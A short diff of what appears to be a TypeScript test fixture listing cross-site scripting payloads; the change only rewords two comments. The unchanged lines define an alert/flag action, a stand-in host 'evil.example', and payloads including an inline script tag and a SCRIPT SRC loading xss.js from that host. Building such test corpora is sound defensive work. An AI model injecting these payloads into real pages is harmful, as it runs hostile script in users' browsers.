@@ -1,8 +1,8 @@
-/** What each of them would do: say so where the test looks, open a dialog, or ask an outside server. */
+/** Effects of the payloads: set a flag the test checks, open a dialog, or send a request to an external host. */
 const act = "(window.ran=window.ran||[]).push('ran');alert('xss')";
 const outside = 'https://evil.example';
 
-/** Ways in which markup becomes script, a request or a frame: from the known lists, each with an act that is noticed. */
+/** Ways to turn markup into script, a request or a frame, from well-known XSS lists; each has a detectable effect. */
 export const payloads: readonly string[] = [
   `<script>${act}</script>`,
   `<SCRIPT SRC=${outside}/xss.js></SCRIPT>`,
